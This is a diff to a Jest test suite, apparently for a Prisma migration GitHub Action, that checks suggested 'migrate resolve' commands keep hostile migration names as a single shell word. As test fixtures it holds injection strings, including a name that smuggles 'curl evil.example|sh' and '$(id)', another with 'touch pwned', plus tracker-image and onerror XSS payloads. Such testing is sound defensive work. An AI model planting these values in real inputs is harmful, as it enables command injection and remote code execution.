@@ -1,4 +1,5 @@
 import { beforeAll, describe, expect, test } from '@jest/globals'
+import { spawnSync } from 'node:child_process'
 import { generatedMigrations, applyLikePrisma, insertRow } from '../test-support/fixtures.mjs'
 import { runAction, errorOf, GUARDED_ENV, type RunResult } from './helpers/run-action.js'
 import { useCluster, tempProject, freshDatabase, type Project } from './helpers/suite.js'
@@ -34,6 +35,22 @@ function expectNoForgedCommands(r: RunResult): void {
   }
 }
 
+/**
+ * The `npx prisma migrate resolve …` commands a text suggests, each run through bash with `npx prisma`
+ * replaced by a printf of its arguments, one a line: what a person who copies the command runs.
+ */
+function suggestedResolveArgs(text: string): string[][] {
+  return [...text.matchAll(/`(npx prisma migrate resolve [^`]*)`/g)].map(m => {
+    const command = (m[1] ?? '').replace(/^npx prisma /, "printf '%s\\n' ")
+    const r = spawnSync('bash', ['-c', command], { encoding: 'utf8', env: { PATH: process.env.PATH ?? '/usr/bin:/bin' } })
+    expect(r.status).toBe(0)
+    return r.stdout.split('\n').slice(0, -1)
+  })
+}
+
+/** A migration name a shell would not read as one plain word: command substitution, a separator, a quote. */
+const SHELL_NAME = `20240101000400_x';curl evil.example|sh #$(id) "$HOME" \\`
+
 describe('hostile text from the database, through dist/index.js', () => {
   let project: Project
   let db: string
@@ -46,6 +63,7 @@ describe('hostile text from the database, through dist/index.js', () => {
     db = await freshDatabase(pg.cluster, async client => {
       await applyLikePrisma(client, migrations)
       await insertRow(client, { name: hostileName, checksum: 'f'.repeat(64), finished: false, logs: hostileLogs })
+      await insertRow(client, { name: SHELL_NAME, checksum: 'e'.repeat(64), finished: false, logs: 'ERROR: boom' })
     })
   })
 
@@ -62,5 +80,40 @@ describe('hostile text from the database, through dist/index.js', () => {
     expect(r.summary).toContain('20240101000300_evil<br><br>![tracker](https://evil.example/p.png) &lt;img src=x onerror=alert(1)&gt; | a | b |<br><br>\\u001b[31m')
     expect(r.summary).toContain('ERROR: boom<br><br>![tracker](https://evil.example/p.png)')
     expectNoForgedCommands(r)
+  })
+
+  test('the resolve commands a failed row suggests keep its name one shell word', async () => {
+    const r = await runAction({
+      workspace: project.root,
+      inputs: { phase: 'verify', migrator: 'builtin', 'connect-timeout': '5', 'database-url': pg.cluster.url({ database: db }) },
+      env: { ...GUARDED_ENV, DATABASE_URL: undefined }
+    })
+    expect(r.code).not.toBe(0)
+    const suggested = suggestedResolveArgs(errorOf(r)).filter(args => args.some(a => a.startsWith('20240101000400_')))
+    expect(suggested).toEqual([
+      ['migrate', 'resolve', '--rolled-back', SHELL_NAME],
+      ['migrate', 'resolve', '--applied', SHELL_NAME]
+    ])
+  })
+})
+
+describe('hostile migration folder names, through dist/index.js', () => {
+  test("a failed deploy's recovery runbook quotes the folder's name in its resolve commands", async () => {
+    // A folder name holds anything but '/' and control characters.
+    const name = `20240101000500_x';touch pwned;'$(id)`
+    const migrations = [...generatedMigrations(1), { name, sql: 'INSERT INTO "no_such_table" VALUES (1);\n' }]
+    const p = tempProject({ migrations })
+    const db = await freshDatabase(pg.cluster)
+    const r = await runAction({
+      workspace: p.root,
+      inputs: { phase: 'deploy', migrator: 'builtin', 'database-url': pg.cluster.url({ database: db }) },
+      env: { ...GUARDED_ENV, DATABASE_URL: undefined }
+    })
+    expect(r.code).not.toBe(0)
+    expect(r.stdout).toContain('Recovery runbook:')
+    const suggested = suggestedResolveArgs(r.stdout)
+    expect(suggested).toContainEqual(['migrate', 'resolve', '--rolled-back', name])
+    expect(suggested).toContainEqual(['migrate', 'resolve', '--applied', name])
+    expectSummaryWellFormed(r.summary)
   })
 })
